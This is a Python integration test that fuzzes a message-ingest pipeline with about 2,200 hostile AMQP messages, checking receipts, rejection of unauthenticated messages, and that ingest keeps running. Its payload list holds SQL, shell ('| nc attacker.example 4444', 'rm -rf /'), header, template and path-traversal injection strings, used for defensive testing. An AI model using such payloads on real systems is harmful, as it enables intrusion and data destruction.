"""Thousands of hostile messages through the real broker into the running pipeline.

Hypothesis makes the messages up front (deterministically: derandomized), the test
publishes them in bulk, and then checks the one thing that must hold for every input
whatever it is: a message from a partner gets exactly one receipt, a message from
nobody lands in ``vi.rejected``, and the front door is still open afterwards, with
nothing stuck in its queue and nothing parked.
"""

from __future__ import annotations

import asyncio
import json
from collections import Counter, defaultdict
from dataclasses import dataclass
from typing import Any

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from shared.amqp.consuming import ERROR_HEADER, USER_ID_HEADER
from shared.amqp.topology import INGEST_QUEUE, REJECTED_QUEUE, WORK_QUEUES, parked_queue
from shared.contract.errors import ErrorItem
from shared.contract.inbound import INBOUND_TYPES
from shared.contract.outbound import Receipt, load_outbound
from shared.contract.validation import check_message_id
from shared.outgoing import OutboundMessage, new_message_id
from shared.partner_client import PartnerClient
from tests.conftest import System
from tests.integration.test_ingest import collect_answers
from tests.support import drain, queue_depth, register_body, valid_bsn

BATCH = 40
BATCHES = 55  # ~2,200 messages
SERVICE = "service"  # published with the services' own login, as nobody in particular

HOSTILE_STRINGS = [
    "'; DROP TABLE melding; --",
    "' OR '1'='1",
    "R-1'); DELETE FROM inbox; --",
    "$(reboot)",
    "`id`",
    "a; rm -rf / #",
    "| nc attacker.example 4444",
    "J. de Vries\r\nBcc: everyone@example.org",
    "x@y.example\nSubject: hi",
    "x@y.example\r\n\r\nbody",
    "name\x00with nul",
    "\u202eevil",
    "\ufeff",
    "%s%s%n%x",
    "{{7*7}}${7*7}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    " ",
    "",
    "0363\n",
    "٠٣٦٣",
    "2026-02-30",
    "2026-11-28T10:00:00",
    "9999-12-31T23:59:59-23:59",
]


@dataclass(frozen=True)
class Hostile:
    sender: str  # a partner id, or SERVICE
    routing_key: str
    body: bytes
    message_id: str | None  # None: no message_id at all
    # Only for SERVICE: whether user_id is set (to the service login), and the
    # original sender a re-published copy would claim (header x-vi-user-id).
    service_user_id: bool = False
    claimed_user: str | None = None

    @property
    def id_is_usable(self) -> bool:
        mid = self.message_id
        return mid is not None and 0 < len(mid) <= 128 and mid.isprintable()


# --- strategies -------------------------------------------------------------------------

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.text(max_size=30),
    st.integers(60_000, 70_000).map(lambda n: "x" * n),
    st.integers(100, 300).map(lambda n: "é" * n),
)
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(10**20, 10**40),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_values = st.recursive(
    json_scalars,
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=6,
)


@st.composite
def plausible(draw: st.DrawFn) -> dict[str, Any]:
    """A message that could well be valid (a few BSNs, so some of them match)."""
    kind = draw(st.sampled_from(sorted(INBOUND_TYPES)))
    bsn = valid_bsn(draw(st.integers(9000, 9030)))
    ref = draw(
        st.one_of(st.integers(0, 10**6).map(lambda n: f"FZ-{n}"), st.sampled_from(HOSTILE_STRINGS))
    )
    if kind == "melding.register":
        surname = draw(st.sampled_from(["Zzfuzz", " ZZFUZZ  ", "Zz\r\nfuzz", "O'Zz; --"]))
        identity = draw(st.sampled_from([{"bsn": bsn}, {"surname": surname, "sex": "X"}, {}]))
        return register_body(
            ref,
            birth_date=draw(st.sampled_from(["2012-01-31", "2020-02-29", "1990-01-01"])),
            reporter=draw(st.sampled_from(["J. de Vries", "J. de\r\nVries", "Robert'); --"])),
            email=draw(
                st.sampled_from(
                    ["j@school.example", "j@school.example\r\nBcc: x@y.example", "$(id)@x.example"]
                )
            ),
            **identity,
        )
    if kind == "melding.withdraw":
        return {
            "type": kind,
            "melding_ref": ref,
            "reason": draw(st.sampled_from(["risk_ended", "unjustified", "bored"])),
        }
    if kind == "regie.claim":
        return {"type": kind, "melding_ref": ref}
    if kind == "melding.informed":
        forms: list[dict[str, Any]] = [
            {
                "type": kind,
                "melding_ref": ref,
                "informed": ["parents"],
                "informed_on": "2026-01-02",
            },
            {"type": kind, "melding_ref": ref, "deferred_reason": "later\r\non"},
        ]
        return draw(st.sampled_from(forms))
    if kind == "person.moved":
        return {
            "type": kind,
            "bsn": bsn,
            "municipality": "0599",
            "moved_at": "2026-01-02T10:00:00+01:00",
        }
    return {"type": kind, "bsn": bsn, "died_on": "2026-01-02"}


def _paths(value: Any, prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    found = [prefix] if prefix else []
    if isinstance(value, dict):
        for key, child in value.items():
            found += _paths(child, (*prefix, key))
    return found


@st.composite
def mutated(draw: st.DrawFn) -> dict[str, Any]:
    """A plausible message with one field replaced, removed, or one added."""
    body: dict[str, Any] = json.loads(json.dumps(draw(plausible())))
    path = draw(st.sampled_from(_paths(body)))
    parent = body
    for key in path[:-1]:
        parent = parent[key]
    action = draw(st.sampled_from(["replace", "replace", "delete", "add"]))
    if action == "delete":
        del parent[path[-1]]
    elif action == "add":
        parent[draw(st.sampled_from(["colour", "bsn ", "__proto__", "$where", "x\r\ny"]))] = draw(
            json_values
        )
    else:
        parent[path[-1]] = draw(json_values)
    return body


def _nested(depth: int, kind: str) -> bytes:
    if kind == "list":
        return b"[" * depth + b"]" * depth
    return b'{"a":' * depth + b"1" + b"}" * depth


raw_bodies = st.one_of(
    st.binary(max_size=200),  # mostly not UTF-8
    st.builds(_nested, st.integers(1, 40_000), st.sampled_from(["list", "dict"])),
    st.sampled_from(
        [
            b"",
            b"null",
            b"[]",
            b"42",
            b'"melding.register"',
            b"NaN",
            b'{"type": "regie.claim", "melding_ref": "A", "melding_ref": "B"}',
            b'{"type": "regie.claim", "melding_ref": "\\ud800"}',
            b'{"type": "regie.claim", "melding_ref": 1e999999}',
            b'{"type": "regie.claim",',
            b"\xef\xbb\xbf{}",
        ]
    ),
)
BODIES = {
    "plausible": plausible().map(lambda b: json.dumps(b).encode()),
    "mutated": mutated().map(
        lambda b: json.dumps(b, ensure_ascii=False).encode("utf-8", "surrogatepass")
    ),
    "raw": raw_bodies,
}
ROUTING_KEYS: dict[str, st.SearchStrategy[str | None]] = {
    "own": st.just(None),  # the body's own type, when it has one
    "other": st.sampled_from([*sorted(INBOUND_TYPES), "melding.delete", "", "#", "*.*"]),
    "text": st.text(max_size=40),
    "not_utf8": st.just("melding.regist\udce9r"),
}
id_kinds = st.sampled_from(
    ["fresh"] * 6 + ["hostile", "none", "too_long", "control", "not_utf8", "blank"]
)


@st.composite
def hostile_message(draw: st.DrawFn) -> tuple[str, str | None, bytes, str, str, bool, str | None]:
    sender = draw(st.sampled_from(["school", "school", "jgz", "jgz", "brp", SERVICE]))
    body = draw(BODIES[draw(st.sampled_from(["plausible"] * 3 + ["mutated"] * 4 + ["raw"] * 2))])
    key = draw(ROUTING_KEYS[draw(st.sampled_from(["own"] * 6 + ["other", "text", "not_utf8"]))])
    id_kind = draw(id_kinds)
    id_extra = draw(st.sampled_from(HOSTILE_STRINGS)) if id_kind == "hostile" else ""
    service_user_id = draw(st.booleans())
    claimed = draw(st.one_of(st.none(), st.text(max_size=20))) if sender == SERVICE else None
    return sender, key, body, id_kind, id_extra, service_user_id, claimed


def _message_id(index: int, kind: str, extra: str) -> str | None:
    match kind:
        case "none":
            return None
        case "too_long":
            return f"{index}-" + "x" * (129 + index % 100)
        case "control":
            return f"{index}-a\r\nb"
        case "not_utf8":
            return f"{index}-\udce9"
        case "blank":
            return f" {index} "
        case "hostile":
            return f"{index}-{extra}"
        case _:
            return f"fz-{index}"


def _routing_key(key: str | None, body: bytes) -> str:
    if key is not None:
        return key
    try:
        parsed = json.loads(body)
        kind = parsed.get("type") if isinstance(parsed, dict) else None
        return kind if isinstance(kind, str) and len(kind.encode("utf-8")) < 200 else ""
    except (ValueError, RecursionError):
        return ""


def generate() -> list[Hostile]:
    batches: list[list[Any]] = []

    @settings(
        max_examples=BATCHES,
        derandomize=True,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(st.lists(hostile_message(), min_size=BATCH, max_size=BATCH))
    def collect(batch: list[Any]) -> None:
        batches.append(batch)

    collect()
    messages = []
    for index, (sender, key, body, id_kind, extra, service_user_id, claimed) in enumerate(
        item for batch in batches for item in batch
    ):
        messages.append(
            Hostile(
                sender=sender,
                routing_key=_routing_key(key, body),
                body=body,
                message_id=_message_id(index, id_kind, extra),
                service_user_id=service_user_id,
                claimed_user=claimed,
            )
        )
    return messages


# --- the test ---------------------------------------------------------------------------


async def _publish(message: Hostile, partners: dict[str, PartnerClient], pipeline: System) -> None:
    if message.sender != SERVICE:
        await partners[message.sender].send(
            message.body,
            routing_key=message.routing_key,
            message_id="" if message.message_id is None else message.message_id,
        )
        return
    runtime = pipeline.runtimes[0]
    headers = {} if message.claimed_user is None else {USER_ID_HEADER: message.claimed_user}
    await runtime.publisher.publish(
        OutboundMessage(
            "vi.inbound",
            message.routing_key,
            message.body,
            message_type=None,
            message_id=message.message_id or new_message_id(),
            user_id=runtime.settings.service_broker_user if message.service_user_id else None,
            headers=headers,
        ),
    )


async def test_hostile_messages_each_get_one_answer_and_ingest_keeps_going(
    pipeline: System, partners: dict[str, PartnerClient]
) -> None:
    # The pipeline's connections installed shared.amqp.wire, which also lets this
    # process put bytes that are not UTF-8 into properties, as a partner's client could.
    messages = generate()
    assert len(messages) >= 2000
    senders = Counter(m.sender for m in messages)
    assert all(senders[s] > 100 for s in ("school", "jgz", "brp", SERVICE)), senders

    for start in range(0, len(messages), 200):
        chunk = messages[start : start + 200]
        await asyncio.gather(*(_publish(m, partners, pipeline) for m in chunk))

    # Partners: one receipt per message. Without a usable id the receipt has
    # in_reply_to null and an id derived from routing key + body + the answer, so
    # identical messages answered alike share one (a partner drops the copy); what
    # is wrong with the id is part of the answer.
    expected: dict[str, list[str | None]] = defaultdict(list)
    anonymous: dict[str, set[tuple[str, bytes, ErrorItem | None]]] = defaultdict(set)
    for m in messages:
        if m.sender == SERVICE:
            continue
        if m.id_is_usable:
            expected[m.sender].append(m.message_id)
        else:
            anonymous[m.sender].add((m.routing_key, m.body, check_message_id(m.message_id)))
    for pid, distinct in anonymous.items():
        expected[pid] += [None] * len(distinct)

    problems: list[str] = []
    for pid, ids in expected.items():
        answers = await collect_answers(partners[pid], ids, timeout=60)
        usable = {k for k in ids if k is not None}
        for in_reply_to, receipts in answers.receipts.items():
            if in_reply_to is not None and in_reply_to not in usable:
                problems.append(f"{pid}: receipt for a message never sent: {in_reply_to!r}")
            if in_reply_to is not None and len(receipts) != 1:
                problems.append(f"{pid}: {len(receipts)} receipts for {in_reply_to!r}")
            for receipt in receipts:
                parsed = load_outbound(json.dumps(receipt.body).encode())
                assert isinstance(parsed, Receipt)
                if receipt.correlation_id != in_reply_to:
                    problems.append(f"{pid}: correlation_id {receipt.correlation_id!r}")
                if parsed.status == "duplicate":
                    problems.append(f"{pid}: 'duplicate' for a fresh id {in_reply_to!r}")
                if in_reply_to is None and not any(e.loc == "message_id" for e in parsed.errors):
                    problems.append(f"{pid}: in_reply_to null without a message_id error")
        if len(answers.receipts.get(None, [])) != len(anonymous[pid]):
            problems.append(
                f"{pid}: {len(answers.receipts.get(None, []))} receipts without in_reply_to "
                f"for {len(anonymous[pid])} distinct messages without a usable id"
            )
    assert problems[:20] == []

    # Nobody's messages: whole, in vi.rejected, with a reason.
    ingest = pipeline.runtimes[0]
    from_nobody = Counter(m.body for m in messages if m.sender == SERVICE)
    rejected: list[Any] = []

    async def all_rejected() -> bool:
        rejected.extend(await drain(ingest, REJECTED_QUEUE))
        return len(rejected) >= sum(from_nobody.values())

    deadline = asyncio.get_running_loop().time() + 30
    while not await all_rejected():
        assert asyncio.get_running_loop().time() < deadline, "vi.rejected incomplete"
        await asyncio.sleep(0.1)
    assert Counter(m.body for m in rejected) == from_nobody
    assert all(str(m.headers.get(ERROR_HEADER, "")) for m in rejected)

    # Still consuming: a valid message afterwards is accepted.
    school = partners["school"]
    mid = await school.send(register_body("FZ-after", bsn=valid_bsn(9999)))
    assert (await school.receipt_for(mid, timeout=15)).body["status"] == "accepted"
    assert await queue_depth(ingest, INGEST_QUEUE) == (0, 1)
    for queue in WORK_QUEUES:
        ready, _ = await queue_depth(ingest, parked_queue(queue))
        assert ready == 0, f"{queue}: {ready} parked"
